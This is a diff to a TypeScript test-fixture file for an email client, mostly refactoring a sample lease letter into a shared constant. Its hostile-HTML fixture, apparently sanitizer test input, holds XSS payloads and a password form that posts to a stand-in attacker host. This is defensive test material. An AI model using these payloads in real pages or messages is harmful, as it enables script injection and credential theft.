@@ -2,6 +2,7 @@ import type { Mail, MailThread } from '@loose-ends/domain/message/mail-thread.ts
 import { MAYA } from './fake-server.ts'
 
 export const ASKED = 'Could you send me the signed lease by Friday?'
+const LETTER = `Good morning Maya,\n\nthank you for the tour of the rooms. ${ASKED} The form is at https://museum.example/lease.\n\nBest,\nInes`
 
 /** A message as the mailbox has it; of plain text, from Ines to Maya, unless told otherwise. */
 export const aMail = (given: Partial<Mail> = {}): Mail => ({
@@ -14,7 +15,7 @@ export const aMail = (given: Partial<Mail> = {}): Mail => ({
   cc: [],
   subject: 'The lease',
   first_line: 'Good morning Maya,',
-  text: `Good morning Maya,\n\nthank you for the tour of the rooms. ${ASKED} The form is at https://museum.example/lease.\n\nBest,\nInes`,
+  text: LETTER,
   html: null,
   images: {},
   attachments: [],
@@ -42,7 +43,8 @@ const HOSTILE = `<div id="all">Dear customer,
 <script>parent.hacked = 1</script><img src="x" onerror="parent.hacked = 2">
 <svg onload="parent.hacked = 3"><script>parent.hacked = 4</script><use href="data:image/svg+xml,x"></use></svg>
 <math><mtext><table><mglyph><style><img src=x onerror="parent.hacked = 5"></style></mglyph></table></mtext></math>
-<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png); position: fixed } @font-face { font-family: x; src: url(https://evil.example/c.woff) } a::after { content: "bank.example" }</style>
+<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png); position: fixed }
+@font-face { font-family: x; src: url(https://evil.example/c.woff) } a::after { content: "bank.example" }</style>
 <link rel="stylesheet" href="https://evil.example/d.css"><meta http-equiv="refresh" content="0;url=https://evil.example/e"><base href="https://evil.example/">
 <form action="https://evil.example/f"><input name="password" type="password"><button formaction="https://evil.example/g">Log in</button></form>
 <iframe src="https://evil.example/h"></iframe><object data="https://evil.example/i"></object><embed src="https://evil.example/j">
@@ -104,7 +106,7 @@ export const CONVERSATIONS: Record<string, { thread: MailThread; sentence: strin
     thread: aThread(
       aMail({
         cc: [{ name: 'Tom Ash', email: 'tom@ash.example' }],
-        text: `Good morning Maya,\n\nthank you for the tour of the rooms. ${ASKED} The form is at https://museum.example/lease.\n\nBest,\nInes\n\nOn Mon, Mar 2, 2026 at 9:00 AM Maya Lindqvist <maya@lindqvist.example> wrote:\n> Shall I show you the rooms?\n> Maya`,
+        text: `${LETTER}\n\nOn Mon, Mar 2, 2026 at 9:00 AM Maya Lindqvist <maya@lindqvist.example> wrote:\n> Shall I show you the rooms?\n> Maya`,
         attachments: [
           { filename: 'Lease, second draft.pdf', mime_type: 'application/pdf', size: 231_000 },
           { filename: '', mime_type: 'text/calendar', size: 812 },
